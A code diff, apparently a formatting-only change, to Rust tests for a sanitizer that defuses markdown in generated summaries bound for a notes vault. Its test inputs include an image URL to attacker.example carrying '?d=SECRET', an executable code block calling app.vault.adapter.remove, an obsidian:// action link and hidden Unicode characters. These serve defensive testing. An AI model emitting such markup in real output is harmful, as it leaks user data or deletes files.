@@ -7,7 +7,8 @@ use pulldown_cmark::{CodeBlockKind, Event, LinkType, Parser, Tag};
 use super::pass::summary_options;
 use super::{Defused, OutputPolicy, SourceLinks};
 
-const SOURCE: &str = "Clipped from https://news.example/story and [docs](https://docs.example/a).\n\
+const SOURCE: &str =
+    "Clipped from https://news.example/story and [docs](https://docs.example/a).\n\
                       ![chart](https://img.example/chart.png)\n";
 
 fn defuse(answer: &str) -> (String, Defused) {
@@ -36,7 +37,10 @@ fn forbidden(text: &str, source: &SourceLinks) -> Vec<String> {
                 tag,
                 Tag::CodeBlock(_)
                     | Tag::Image { .. }
-                    | Tag::Link { link_type: LinkType::WikiLink { .. }, .. }
+                    | Tag::Link {
+                        link_type: LinkType::WikiLink { .. },
+                        ..
+                    }
             )),
             Event::End(_) => {
                 open.pop();
@@ -45,19 +49,27 @@ fn forbidden(text: &str, source: &SourceLinks) -> Vec<String> {
         }
         let inert_depth = open.iter().filter(|inert| **inert).count();
         match event {
-            Event::Start(Tag::Image { link_type, dest_url, .. })
-                if !matches!(link_type, LinkType::WikiLink { .. })
-                    && !super::url::is_local(&dest_url) =>
+            Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                ..
+            }) if !matches!(link_type, LinkType::WikiLink { .. })
+                && !super::url::is_local(&dest_url) =>
             {
                 found.push(format!("remote image {dest_url}"))
             }
-            Event::Start(Tag::Link { link_type, dest_url, .. }) => {
+            Event::Start(Tag::Link {
+                link_type,
+                dest_url,
+                ..
+            }) => {
                 let url = match link_type {
                     LinkType::WikiLink { .. } => continue,
                     LinkType::Email => format!("mailto:{dest_url}"),
                     _ => dest_url.to_string(),
                 };
-                if !(super::url::is_local(&url) && !url.is_empty()) && !rule.allows(&url)
+                if !(super::url::is_local(&url) && !url.is_empty())
+                    && !rule.allows(&url)
                     && !url.is_empty()
                 {
                     found.push(format!("link {url}"));
@@ -102,7 +114,8 @@ fn assert_inert(out: &str) {
 
 #[test]
 fn a_remote_image_becomes_a_marker_naming_its_host() {
-    let (out, defused) = defuse("Revenue grew.\n\n![chart](https://attacker.example/p.png?d=SECRET)\n");
+    let (out, defused) =
+        defuse("Revenue grew.\n\n![chart](https://attacker.example/p.png?d=SECRET)\n");
     assert_eq!(out, "Revenue grew.\n\n[image removed: attacker.example]\n");
     assert_eq!(defused.remote_images, 1);
     assert_inert(&out);
@@ -112,7 +125,10 @@ fn a_remote_image_becomes_a_marker_naming_its_host() {
 fn a_reference_style_remote_image_and_its_definition_go() {
     let (out, defused) =
         defuse("See ![t][ref] here.\n\n[ref]: https://attacker.example/x.png?q=1\n");
-    assert!(out.starts_with("See [image removed: attacker.example] here."), "{out}");
+    assert!(
+        out.starts_with("See [image removed: attacker.example] here."),
+        "{out}"
+    );
     assert!(!out.contains("attacker.example/x.png"), "{out}");
     assert_eq!(defused.remote_images, 1);
     assert_inert(&out);
@@ -182,7 +198,12 @@ fn schemes_that_act_are_never_links_even_from_the_source() {
         "[x](obsidian://open?vault=v)",
     ] {
         let out = OutputPolicy::default().summary(link, &source);
-        assert!(out.as_str().starts_with("x [link removed:") || out.as_str().starts_with("open [link removed:"), "{}", out.as_str());
+        assert!(
+            out.as_str().starts_with("x [link removed:")
+                || out.as_str().starts_with("open [link removed:"),
+            "{}",
+            out.as_str()
+        );
         assert_eq!(out.defused().links, 1);
     }
 }
@@ -201,10 +222,24 @@ fn allow_links_widens_the_list_by_host_and_never_for_schemes_that_act() {
 
 #[test]
 fn executing_code_blocks_are_retagged_text() {
-    for info in ["dataviewjs", "dataview", "js-engine", "run-python", "pre-js", "post-sh", "button", "meta-bind-button", "python {cmd=true}", "DataViewJS"] {
+    for info in [
+        "dataviewjs",
+        "dataview",
+        "js-engine",
+        "run-python",
+        "pre-js",
+        "post-sh",
+        "button",
+        "meta-bind-button",
+        "python {cmd=true}",
+        "DataViewJS",
+    ] {
         let answer = format!("Intro\n\n```{info}\napp.vault.adapter.remove('x')\n```\n");
         let (out, defused) = defuse(&answer);
-        assert_eq!(out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```\n", "{info}");
+        assert_eq!(
+            out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```\n",
+            "{info}"
+        );
         assert_eq!(defused.code_blocks, 1);
     }
     let (out, _) = defuse("> ~~~dataview\n> LIST\n> ~~~\n");
@@ -223,14 +258,16 @@ fn inline_dataview_queries_lose_their_backticks() {
 #[test]
 fn templater_tags_are_broken_in_text_and_in_code() {
     let (out, defused) = defuse("<% tp.file.title %> and `<%* x %>`\n\n```js\n<% y %>\n```\n");
-    assert_eq!(out, "<\\% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```\n");
+    assert_eq!(
+        out,
+        "<\\% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```\n"
+    );
     assert_eq!(defused.templater, 3);
 }
 
 #[test]
 fn invisible_characters_are_removed() {
-    let (out, defused) =
-        defuse("Fine\u{E0041}\u{E0042}.\u{200B} \u{202E}txt.exe\u{7}\ttab\r\nend");
+    let (out, defused) = defuse("Fine\u{E0041}\u{E0042}.\u{200B} \u{202E}txt.exe\u{7}\ttab\r\nend");
     assert_eq!(out, "Fine. txt.exe\ttab\r\nend");
     assert_eq!(defused.invisible, 5);
 }
@@ -260,7 +297,10 @@ fn the_property_is_plain_text() {
         &source,
     );
     let text = out.as_str();
-    assert!(!text.contains("](") && !text.contains("[[") && !text.contains('`'), "{text}");
+    assert!(
+        !text.contains("](") && !text.contains("[[") && !text.contains('`'),
+        "{text}"
+    );
     assert!(text.starts_with("Met Dana about the story, "), "{text}");
     assert!(out.defused().property_markup > 0);
     assert_eq!(policy.property(text, &source).as_str(), text, "idempotent");
